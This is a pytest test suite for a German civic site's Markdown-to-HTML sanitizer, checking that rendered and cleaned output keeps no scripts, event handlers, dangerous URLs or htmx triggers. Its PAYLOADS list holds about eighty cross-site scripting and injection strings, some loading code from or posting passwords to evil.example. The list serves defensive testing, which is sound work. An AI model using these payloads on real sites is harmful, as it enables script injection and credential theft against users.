"""What people write becomes HTML in which nothing can act: no script, no style, no foreign address.

The judge is html5lib, a parser of its own; `forbidden` below is shown to find what is planted.
"""

from __future__ import annotations

import time
from concurrent.futures import ThreadPoolExecutor
from urllib.parse import urlsplit

import html5lib
import pytest

from civic.core import html
from civic.core.html import clean, render, shorten, summary

ALLOWED = {tag: set(html.ATTRIBUTES.get(tag, ())) for tag in html.TAGS}
#: Written as people who try it write it: as Markdown, as HTML, and as both at once.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script >",
    "<script>\n\nalert(1)\n\n</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'//",
    "<IMG SRC=\"javascript:alert('x')\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='position:fixed;inset:0'>over everything</p>",
    "<form action='//evil.example'><input name=password><button>Anmelden</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='https://a.example' onclick=alert(1) target=_blank id=x name=y>x</a>",
    "<a href='https://a.example' rel='opener' data-hx-get='/abmelden' hx-post='/x'>x</a>",
    "<div hx-get='/konto/loeschen' hx-trigger=load>x</div>",
    "<div data-hx-post='/abmelden' data-hx-trigger='load'>x</div>",
    "<p data-hx-on:click='alert(1)' hx-on::load='alert(1)'>x</p>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<p id='messages' class='toast' form='f'>x</p>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><?xml-stylesheet href='javascript:alert(1)'?>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
    "[x](https://a.example' onmouseover='alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '<https://a.example/"onmouseover=alert(1)>',
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "`<script>alert(1)</script>`",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '```" onmouseover="alert(1)\nx\n```',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "\\<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<a\x00href='javascript:alert(1)'>x</a>",
    "＜script＞alert(1)＜/script＞",
]  # fmt: skip


def forbidden(text: str) -> list[str]:
    """What a browser would find in this HTML although nothing of it is allowed."""
    found = []
    tree = html5lib.parseFragment(text, container="div", namespaceHTMLElements=False)
    for element in tree.iter():
        tag = element.tag
        if element is tree:
            continue
        if not isinstance(tag, str) or tag not in ALLOWED:
            found.append(f"<{tag}>")
            continue
        found += [f"<{tag} {name}>" for name in element.attrib if name not in ALLOWED[tag]]
        address = element.get("href")
        if address is not None and urlsplit(address.strip()).scheme not in {*html.PROTOCOLS, ""}:
            found.append(address)
    return found


def links(text: str):
    return html5lib.parseFragment(text, namespaceHTMLElements=False).iter("a")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_acts_survives(payload):
    assert forbidden(render(payload)) == []
    assert forbidden(clean(payload)) == []
    # What was cleaned once and is cleaned again stays clean (no mutation on the second parse).
    assert forbidden(clean(clean(payload))) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_survives_in_the_midst_of_honest_text(payload):
    around = (
        f"## Guten Tag\n\n- eins\n- {payload}\n\n> {payload}\n\n**{payload}** und [{payload}](/x)"
    )
    assert forbidden(render(around)) == []


def test_the_judge_finds_what_is_planted():
    for planted in (
        "<script>x</script>", "<p onclick=x>", "<a href='javascript:x'>x</a>", "<p data-hx-get=/>",
        "<a href='\x01javascript:x'>x</a>", "<p id=messages>", "<img src=x>", "<svg/>",
    ):  # fmt: skip
        assert forbidden(planted), planted


def test_a_renderer_without_the_cleaner_would_be_found(monkeypatch):
    """The corpus is able to fail: raw HTML and no cleaning let most of it through."""
    through = [payload for payload in PAYLOADS if forbidden(payload)]
    assert len(through) > 40


def test_links_are_marked():
    text = render(
        "[a](https://a.example) und <https://b.example> und [c](/ideen) [d](mailto:a@b.de)"
    )
    found = list(links(text))
    assert [link.get("href") for link in found] == [
        "https://a.example", "https://b.example", "/ideen", "mailto:a@b.de"
    ]  # fmt: skip
    assert {link.get("rel") for link in found} == {"nofollow ugc noopener"}


@pytest.mark.parametrize(
    ("source", "top", "expected"),
    [
        ("# A\n\n## B\n\n# C", 2, "h2 h3 h2"),
        ("#### A\n\n###### B", 2, "h2 h3"),
        ("# A\n\n### B\n\n## C", 2, "h2 h3 h3"),
        ("### A\n\n# B\n\n## C", 2, "h2 h2 h3"),
        ("# A\n\n## B\n\n# C\n\n### D", 2, "h2 h3 h2 h3"),
        ("# A\n\n## B\n\n### C\n\n#### D\n\n##### E\n\n###### F", 2, "h2 h3 h4 h5 h6 h6"),
        ("A\n===\n\nB\n---", 3, "h3 h4"),
    ],
)
def test_headings_follow_the_outline_of_the_page(source, top, expected):
    tree = html5lib.parseFragment(render(source, top=top), namespaceHTMLElements=False)
    assert [e.tag for e in tree.iter() if str(e.tag).startswith("h")] == expected.split()


def test_what_is_allowed_is_there():
    text = render(
        "Das **ist** *wichtig* und ~~falsch~~ `code`\nneue Zeile\n\n3. drei\n4. vier\n\n> Zitat\n\n"
        "---\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )
    for tag in "strong em s code br ol li blockquote hr table thead tbody tr th td p".split():
        assert f"<{tag}" in text, tag
    assert '<ol start="3">' in text


@pytest.mark.parametrize("source", ["", " \n\t", "\u200b", "Ein Wort", "ä€😀", "&amp; < > \"'"])
def test_words_stay_words(source):
    tree = html5lib.parseFragment(render(source), namespaceHTMLElements=False)
    said = " ".join("".join(tree.itertext()).split())
    assert said == " ".join(source.replace("&amp;", "&").split())


NASTY = {
    "brackets": "[", "emphasis": "*a ", "quotes": ">", "ticks": "`", "bars": "|", "links": "[a](",
    "stars": "*", "nested": "> - ", "backslashes": "\\", "entities": "&#", "table": "|-\n",
    "references": "[a]: b\n", "tags": "<a ", "open": "**a *b ", "images": "![", "html": "<b>",
    "spaces": " ", "lines": "\n", "headings": "# a\n",
    "items": "- a\n", "steps": "> a\n\n", "rows": "|a|b|\n", "tildes": "~~", "autolinks": "<http:",
}  # fmt: skip


@pytest.mark.parametrize("unit", NASTY.values(), ids=NASTY)
def test_nasty_text_takes_no_longer_than_half_a_second(unit):
    """Time of this thread alone, the best of three: what else the machine does is not counted."""
    source = (unit * html.MAX_SOURCE)[: html.MAX_SOURCE]
    assert any(seconds_for(source) <= 0.5 for _ in range(3))
    assert forbidden(render(source)) == []


def seconds_for(source: str) -> float:
    before = time.thread_time()
    summary(render(source))
    return time.thread_time() - before


def test_a_text_of_marks_alone_is_shown_as_it_was_typed():
    assert render("|-\n" * 6000).startswith("<pre><code>|-\n|-")
    assert render("<script>\n" + "- a\n" * 4000).startswith("<pre><code>&lt;script&gt;\n- a")
    assert "<table>" in render("|a|\n|-|\n" + "|b|\n" * 200)
    assert forbidden(render("<script>\n" + "- a\n" * 4000)) == []


def test_no_more_is_rendered_than_a_source_may_hold():
    assert len(render("a" * (2 * html.MAX_SOURCE))) < html.MAX_SOURCE + 20


def test_threads_do_not_disturb_each_other():
    sources = [f"# {n}\n\n[{n}](https://a.example/{n}) **{n}** <b>{n}</b>" for n in range(24)] * 4
    alone = [render(source) for source in sources]
    with ThreadPoolExecutor(8) as pool:
        assert list(pool.map(render, sources)) == alone


# -- summaries -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "length", "expected"),
    [
        ("kurz", 10, "kurz"),
        ("genau zehn", 10, "genau zehn"),
        ("Ein Satz. Noch ein Satz.", 10, "Ein Satz…"),
        ("Ein Satz, der weitergeht", 12, "Ein Satz…"),
        ("Wort – und noch eins", 8, "Wort…"),
        ("Sehr geehrte... Damen", 17, "Sehr geehrte…"),
        ("Sehr geehrte… Damen", 15, "Sehr geehrte…"),
        ("Donaudampfschifffahrt", 10, "Donaudamp…"),
        ("a Donaudampfschifffahrt", 10, "a Donauda…"),
    ],
)
def test_a_cut_stands_at_a_word_and_shows_one_ellipsis(text, length, expected):
    assert shorten(text, length) == expected


def test_every_cut_is_short_enough_and_never_doubled():
    text = "Ein Satz. Noch einer... Und, wer weiß – ein dritter! Vierter (mit Klammer); Ende."
    for length in range(2, len(text) + 2):
        cut = shorten(text, length)
        assert len(cut) <= length
        assert cut == text or cut.endswith("…")
        assert not any(doubled in cut for doubled in (".…", "……", ",…", " …", "–…"))


def test_a_summary_is_plain_words_without_headings():
    text = render(
        "# Titel\n\nDas **Rad**weg-Netz ist [wichtig](https://a.example).\n\n- eins\n- zwei"
    )
    assert summary(text) == "Das Radweg-Netz ist wichtig. eins zwei"
    assert summary(render("# Nur ein Titel")) == "Nur ein Titel"
    assert summary(render("1 < 2 & 3 > 2")) == "1 < 2 & 3 > 2"
    assert summary("") == ""
    assert len(summary(render("Wort " * 400))) <= html.SUMMARY_LENGTH
